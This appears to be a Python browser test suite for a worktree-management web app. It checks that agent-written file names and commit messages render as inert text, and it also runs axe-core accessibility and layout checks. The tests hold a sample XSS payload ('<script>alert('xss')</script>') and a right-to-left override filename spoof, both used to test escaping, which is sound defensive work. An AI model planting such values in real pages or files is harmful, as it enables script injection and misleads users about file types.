def test_whatever_an_agent_wrote_into_its_work_is_text(service: Served, tab: Tab) -> None:
    """Names of files and branches, messages and contents: nothing runs, all is shown."""
    made = service.post("/v1/worktrees", {"repository": str(service.paddock.main), "ticket": "hostile"}).json
    script = "".join(f"open({attack.replace('/', '')!r}, 'w').write({attack!r})\n" for attack in HOSTILE)
    script += "open('long', 'w').write('<b>' * 2_000_000)\n"
    script = f"set -e\npython3 - <<'END'\n{script}END\n{COMMIT} \"<script>alert('xss')</script>\"\n"
    service.create("sh", "-c", script, name="writes", directory=made["main"]["path"])
    assert service.over("writes")["outcome"]["status"] == 0, service.log("writes")
    foreign = "main script, main img, main svg, main iframe, main b"
    for path in (f"/worktrees/{made['worktree_id']}", f"/worktrees/{made['worktree_id']}?view=split", "/worktrees",
                 "/merges"):  # fmt: skip
        go(tab, path)
        assert tab.run(f"document.querySelectorAll('{foreign}').length") == 0
        assert tab.run("/[\\x1b\\u202e\\u2066]/.test(document.documentElement.outerHTML)") is False
    go(tab, f"/worktrees/{made['worktree_id']}")
    assert "<script>alert('xss')</script>" in tab.text()
    assert r"\u202etxt.exe\u2066" in tab.text()
    tab.click("a[data-swap]")  # more of a file, in its place
    tab.until("document.body.innerText.includes('more bytes')")
    assert tab.run(f"document.querySelectorAll('{foreign}').length") == 0


def _not_hard_to_use_or_too_wide(service: Served, worked: dict[str, Any], chromium: Browser) -> None:
    """By axe-core, in light and dark, on a desk and on a phone."""
    rules = browser.axe().read_text(encoding="utf-8")
    tab = chromium.tab(invited(service))
    tab.ask("Page.setBypassCSP", enabled=True)  # for the tool, which puts a style into the page
    login = f"/worktrees/{worked['login']['worktree_id']}"
    for scheme, width in (("light", 1280), ("dark", 400)):
        tab.ask("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
        tab.ask("Emulation.setDeviceMetricsOverride", width=width, height=800, deviceScaleFactor=1, mobile=False)
        for path in ("/worktrees", login, f"{login}?view=split", "/merges", "forecast", "/tickets", "/tickets/sprint"):
            if path == "forecast":
                tab.click("#forecast-button")
                tab.until("document.querySelector('#forecast') !== null && document.readyState === 'complete'")
            else:
                go(tab, path)
            assert tab.run("document.documentElement.scrollWidth <= window.innerWidth"), (path, width)
            if scheme == "light" or path in (login, "forecast"):  # which have all the colours
                tab.run(rules)
                found = faults(tab, scheme)
                assert found == [], (scheme, path, found)
    tab.ask("Page.close")
